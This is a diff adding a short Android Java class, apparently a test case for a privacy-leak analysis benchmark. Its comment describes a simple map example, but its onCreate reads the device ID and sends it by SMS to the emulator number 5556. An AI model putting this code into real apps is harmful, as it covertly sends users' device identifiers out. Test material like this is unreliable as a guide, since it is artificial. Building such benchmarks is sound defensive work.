@@ -1,0 +1,34 @@
+package org.brookside.ways;
+
+import android.app.*;
+import android.content.*;
+import android.content.res.Configuration;
+import android.database.*;
+import android.database.sqlite.*;
+import android.location.*;
+import android.net.Uri;
+import android.os.*;
+import android.telephony.*;
+import android.text.*;
+import android.util.*;
+import android.view.*;
+import android.webkit.*;
+import android.widget.*;
+import java.io.*;
+import java.lang.ref.*;
+import java.lang.reflect.*;
+import java.net.*;
+import java.util.*;
+import java.util.concurrent.*;
+import java.util.concurrent.atomic.*;
+import java.util.regex.*;
+
+/** A map, by its entries. */
+public class Entries extends Case {
+    @Override protected void onCreate(Bundle s) {
+        super.onCreate(s);
+        Map<String, String> l = new TreeMap<>();
+        l.put("a", ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId());
+        for (Map.Entry<String, String> e : l.entrySet()) SmsManager.getDefault().sendTextMessage("5556", null, e.getKey() + e.getValue(), null, null);
+    }
+}
